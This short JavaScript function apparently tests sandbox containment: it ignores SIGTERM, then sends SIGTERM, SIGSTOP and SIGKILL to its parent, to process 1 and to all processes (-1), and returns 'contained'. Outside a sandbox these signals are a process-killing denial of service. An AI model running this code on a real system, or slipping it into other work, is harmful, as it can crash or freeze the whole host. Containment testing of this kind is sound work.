// Sends signals to everything: its parent, the first process, all processes.
export function main() {
  process.on("SIGTERM", () => {});
  for (const signal of ["SIGTERM", "SIGSTOP", "SIGKILL"]) {
    for (const pid of [process.ppid, 1, -1]) {
      try {
        process.kill(pid, signal);
      } catch {}
    }
  }
  return "contained"; // whoever reads this was not killed
}
